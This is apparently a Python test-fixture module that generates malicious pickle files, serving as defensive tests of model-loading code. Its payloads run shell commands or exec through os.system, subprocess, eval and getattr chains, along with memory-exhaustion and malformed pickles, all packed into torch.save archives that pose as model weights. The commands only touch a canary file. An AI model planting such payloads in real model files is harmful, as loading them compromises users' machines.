"""Pickles that call functions, fill the memory or never end: weights and verification sets."""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
from hostile.cases import CANARY, add, written

Payload = Callable[[Path], bytes]


class Calls:
    """Unpickling this calls a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def touch(folder: Path) -> str:
    """A shell command that leaves the canary."""
    return f"touch {folder / CANARY}"


def write(folder: Path) -> str:
    """Python code that leaves the canary."""
    return f"open({str(folder / CANARY)!r}, 'w').close()"


def calling(function: Any, argument: Callable[[Path], Any], protocol: int = 4) -> Payload:
    return lambda folder: pickle.dumps(Calls(function, argument(folder)), protocol)


def chain(folder: Path) -> bytes:
    """`builtins.getattr(builtins.__import__("os"), "system")(...)`, link by link."""
    command = touch(folder).encode()
    return (
        b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostR"
        b"X\x06\x00\x00\x00systemtR(X" + len(command).to_bytes(4, "little") + command + b"tR."
    )


def numpy_loader(folder: Path) -> bytes:
    """`numpy.load(..., allow_pickle=True)` of a second file that calls `os.system`."""
    second = folder / "second.npy"
    np.save(second, np.array([Calls(os.system, touch(folder))]), allow_pickle=True)
    name = str(second).encode()
    return b"\x80\x02cnumpy\nload\n(X" + len(name).to_bytes(4, "little") + name + b"N\x88tR."


def state_setter(folder: Path) -> bytes:
    """BUILD on a `types.SimpleNamespace` beside REDUCE of `exec`: behaviour through state."""
    code = write(folder).encode()
    call = b"cbuiltins\nexec\n(X" + len(code).to_bytes(4, "little") + code + b"tR"
    return b"\x80\x02ctypes\nSimpleNamespace\n)R}X\x01\x00\x00\x00a" + call + b"sb."


def lines(text: str) -> Payload:
    """A protocol 0 pickle with the shell command put in."""
    return lambda folder: text.format(touch=touch(folder), canary=folder / CANARY).encode()


def doubled(times: int) -> bytes:
    """A tuple of tuples, each of two of the same tuple: 2 to the `times` leaves in a few bytes."""
    return b"()q\x00" + b"h\x00h\x00\x86q\x00" * times + b"t"


CODE: dict[str, Payload] = {
    "os.system": calling(os.system, touch),
    "subprocess": calling(subprocess.check_call, lambda folder: touch(folder).split()),
    "eval": calling(eval, lambda folder: write(folder), 2),
    "exec": calling(exec, write, 3),
    "posix.system in protocol 0": lines("cposix\nsystem\n(S'{touch}'\ntR."),
    "INST": lines("(S'{touch}'\nios\nsystem\n."),
    "OBJ": lambda folder: (
        b"(cos\nsystem\nX%c\0\0\0%bo." % (len(touch(folder)), touch(folder).encode())
    ),
    "NEWOBJ_EX": lambda folder: (
        b"\x80\x04csubprocess\nPopen\nX%c\0\0\0%b\x85}X\x05\0\0\0shell\x88s\x92."
        % (len(touch(folder)), touch(folder).encode())
    ),
    "chain of getattr": chain,
    "copyreg": lines("ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\nNtR."),
    "numpy.load": numpy_loader,
    "state": state_setter,
    "torch.load": lines("ctorch\nload\n(S'{canary}'\ntR."),
    "hub": lines("ctorch.hub\nload\n(S'evil/evil'\nS'net'\ntR."),
    "name with dots": lambda folder: (
        b"\x80\x04\x8c\x05torch\x8c\x16serialization.os.system\x93"
        b"X%c\0\0\0%b\x85R." % (len(touch(folder)), touch(folder).encode())
    ),
    "numpy.ctypeslib": lines("cnumpy.ctypeslib\nload_library\n(S'evil.so'\nS'/tmp'\ntR."),
    "argparse.FileType": lines("cargparse\nFileType\n(S'w'\ntR(S'{canary}'\ntR."),
    "pathlib": lines("cpathlib\nPath.touch\n(cpathlib\nPosixPath\n(S'{canary}'\ntRtR."),
}
"""Pickles that would run something."""

STRAIN: dict[str, bytes] = {
    "persistent id": b"\x80\x04X\x04\x00\x00\x00evilQ.",
    "persistent id in text": b"Pevil\n.",
    "EXT1": b"\x80\x02\x82\x01.",
    "EXT4": b"\x80\x02\x84\xff\xff\xff\x7f.",
    "nested lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    "nested marks": b"\x80\x02" + b"(" * 1_000_000 + b".",
    "nested tuples": b"\x80\x02)" + b"\x85" * 200_000 + b".",
    "long bytes": b"\x80\x04\x8e" + (2**62).to_bytes(8, "little") + b"x.",
    "long byte array": b"\x80\x05\x96" + (2**40).to_bytes(8, "little") + b"x.",
    "long text": b"\x80\x04\x8d" + (2**63 - 1).to_bytes(8, "little") + b"x.",
    "negative text": b"\x80\x02X\xff\xff\xff\xff.",
    "long number": b"\x80\x02\x8b" + (2**31 - 1).to_bytes(4, "little") + b"\x01.",
    "digits": b"L" + b"9" * 5_000_000 + b"L\n.",
    "long frame": b"\x80\x04\x95" + (2**63 - 1).to_bytes(8, "little") + b"N.",
    "far memo": b"\x80\x02Nr\xff\xff\xff\x7f.",
    "memo that is not there": b"\x80\x02j\xff\xff\xff\x7f.",
    "empty stack": b"\x80\x02\x86R.",
    "no end": b"\x80\x04" + b"N0" * 100_000,
    "protocol 200": b"\x80\xc8N.",
    "itself": b"\x80\x02]q\x00h\x00a.",
    "doubled tuples": b"\x80\x02" + doubled(60) + b".",
    "doubled tuple as a key": b"\x80\x02}" + doubled(60) + b"Ns.",
    "doubled tuple as a type": b"\x80\x02cnumpy\ndtype\n" + doubled(60) + b"\x85R.",
    "doubled tuple as a shape": b"\x80\x02cnumpy.core.numeric\n_frombuffer\n(X\x01\0\0\0xcnumpy\n"
    b"dtype\nX\x02\0\0\0u1\x85R" + doubled(60) + b"X\x01\0\0\0CtR.",
    "doubled tuple as an encoding": b"\x80\x02c_codecs\nencode\nX\x01\0\0\0x"
    + doubled(60)
    + b"\x86R.",
}
"""Pickles that would fill the memory or never end, or that are no pickles."""


def zipped(payload: Payload) -> Payload:
    """The same within an archive as `torch.save` writes."""

    def build(folder: Path) -> bytes:
        plain, out = io.BytesIO(), io.BytesIO()
        torch.save({"weight": torch.zeros(3)}, plain)
        with zipfile.ZipFile(plain) as old, zipfile.ZipFile(out, "w") as new:
            for name in old.namelist():
                data = payload(folder) if name.endswith("data.pkl") else old.read(name)
                new.writestr(name, data)
        return out.getvalue()

    return build


def constant(data: bytes) -> Payload:
    return lambda _: data


for title, payload in (CODE | {name: constant(data) for name, data in STRAIN.items()}).items():
    add(f"zipped {title}", "model", written("net.pth", zipped(payload)))
    add(f"plain {title}", "model", written("net.pt", payload))
    add(title, "evaluation", written("lfw.bin", payload))
